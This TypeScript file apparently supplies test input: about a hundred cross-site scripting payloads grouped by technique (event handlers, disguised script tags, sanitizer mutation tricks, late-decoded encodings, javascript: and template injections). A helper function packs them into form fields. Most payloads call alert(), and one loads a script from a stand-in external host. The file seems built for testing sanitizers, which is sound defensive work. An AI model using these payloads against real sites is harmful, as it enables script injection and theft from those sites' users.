/** A hundred texts that run if a page mistakes them for its own markup, code or address, grouped by the exploited mistake. */
const elements = [
  '"><img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  "';alert(1)//",
  'javascript:alert(1)',
  '</title><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="javascript:alert(1)">Klick</a>',
  '<math><mtext></p><style><img src=x onerror=alert(1)>',
] as const;

/** Elements that run code as soon as they are in a page, in spellings that filters have let through. */
const handlers = [
  '<IMG SRC=x ONERROR=alert(2)>',
  '<img/src=x/onerror=alert(3)>',
  "<img src='x'onerror='alert(4)'>",
  '<img src=x onerror=alert`5`>',
  '<img src=x:x onerror=alert(6) alt=>',
  '<img src=x onerror="alert(7)" //',
  '<image src=x onerror=alert(8)>',
  '<video><source onerror=alert(9)></video>',
  '<video src=x onerror=alert(10)></video>',
  '<audio src=x onerror=alert(11)></audio>',
  '<body onload=alert(12)>',
  '<body onpageshow=alert(13)>',
  '<details open ontoggle=alert(14)>',
  '<input autofocus onfocus=alert(15)>',
  '<select autofocus onfocus=alert(16)></select>',
  '<textarea autofocus onfocus=alert(17)></textarea>',
  '<marquee onstart=alert(18)>x</marquee>',
  '<p onpointerenter=alert(19) style="position:fixed;inset:0">x</p>',
  '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=alert(20)>',
  '<object data="javascript:alert(21)"></object>',
  '<embed src="javascript:alert(22)">',
  '<iframe src="javascript:alert(23)"></iframe>',
  '<iframe onload=alert(24)></iframe>',
  '<form><button formaction="javascript:alert(25)">x</button></form>',
  '<form action="javascript:alert(26)"><input type=submit autofocus></form>',
  '<isindex action="javascript:alert(27)" type=image>',
  '<link rel=stylesheet href="javascript:alert(28)">',
  '<link rel=import href="data:text/html,<script>alert(29)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(30)">',
  '<base href="javascript:/a/-alert(31)///////">',
  '<dialog open onclose=alert(32)><form method=dialog><button autofocus>',
  '<div popover id=pp onbeforetoggle=alert(33)></div>',
] as const;

/** Scripts that do not look like scripts. */
const scripts = [
  '<ScRiPt>alert(34)</sCrIpT>',
  '<script src=data:,alert(35)></script>',
  '<script src=//boese.example/a.js></script>',
  '<script type=module>alert(37)</script>',
  '<script>alert(38)<!--</script>',
  '<scr<script>ipt>alert(39)</scr</script>ipt>',
  '<script/x>alert(40)</script>',
  '<script\t>alert(41)</script>',
  '</script><script>alert(42)</script>',
  '--><script>alert(43)</script><!--',
  ']]><script>alert(44)</script>',
  '</textarea><script>alert(45)</script>',
  '</style><script>alert(46)</script>',
  '</noscript><script>alert(47)</script>',
  '</iframe><script>alert(48)</script>',
  '<svg><script>alert(49)</script></svg>',
  '<svg><script href=data:,alert(50) />',
  '<svg><animate onbegin=alert(51) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(52)>',
  '<svg><a xlink:href="javascript:alert(53)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(54)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(55)></foreignObject></svg>',
] as const;

/** Texts that a sanitizer makes harmful by repairing them: its parser and the page's read the nesting differently. */
const mutations = [
  '<svg></p><style><a id="</style><img src=x onerror=alert(56)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(57)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(58)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(59)>">',
  '<template><img src=x onerror=alert(60)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(61)></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(62)>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(63)>">',
  '<svg><desc><noembed><img src=x onerror=alert(64)></noembed></desc></svg>',
  '<b <script>alert(65)</script>0',
  '<a title="<img src=x onerror=alert(66)>">x</a>',
  '<!--><img src=x onerror=alert(67)>-->',
  '<![CDATA[<img src=x onerror=alert(68)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(69)>',
] as const;

/** Payloads in an encoding that is undone too late. */
const encodings = [
  '&lt;img src=x onerror=alert(70)&gt;',
  '&#60;img src=x onerror=alert(71)&#62;',
  '&#x3c;script&#x3e;alert(72)&#x3c;/script&#x3e;',
  '%3Cscript%3Ealert(73)%3C/script%3E',
  '\\u003cscript\\u003ealert(74)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(75)\\x3e',
  '＜script＞alert(76)＜/script＞',
  '+ADw-script+AD4-alert(77)+ADw-/script+AD4-',
  '<img src=x onerror=&#97;lert(78)>',
  '<a href="jav&#x09;ascript:alert(79)">x</a>',
  '<a href=" &#14; javascript:alert(80)">x</a>',
  '\u202e>(18)trela=rorreno x=crs gmi<\u202c',
  '<img src=x onerror=\u2028alert(82)>',
  '‹img src=x onerror=alert(83)›',
] as const;

/** Addresses and code that become active at the end of a text. */
const others = [
  'JaVaScRiPt:alert(84)',
  'data:text/html,<script>alert(85)</script>',
  'data:image/svg+xml,<svg onload=alert(86)>',
  'vbscript:msgbox(87)',
  '//boese.example/%2f..',
  '" autofocus onfocus="alert(89)',
  "' onmouseover='alert(90)",
  '` onerror=alert(91) `',
  '${alert(92)}',
  '#{alert(93)}',
  '<%= alert(94) %>',
  '{{$on.constructor("alert(95)")()}}',
  '"-alert(96)-"',
  '*/alert(97)/*',
  '</div><style>*{background:url("javascript:alert(98)")}</style>',
  '__proto__[onerror]=alert(99)',
] as const;

export const firstPayloads = elements;
export const payloads: readonly string[] = [
  ...elements,
  ...handlers,
  ...scripts,
  ...mutations,
  ...encodings,
  ...others,
];

let next = 0;
/**
 * Returns a text with as many payloads as fit; it continues where the last one ended, so that several fields together contain
 * all.
 */
export function planted(length: number): string {
  let text = payloads[next % payloads.length] ?? '';
  for (let taken = 1; taken < payloads.length; taken++) {
    next++;
    const longer = `${text} ${payloads[next % payloads.length] ?? ''}`;
    if (longer.length > length) return text;
    text = longer;
  }
  return text;
}
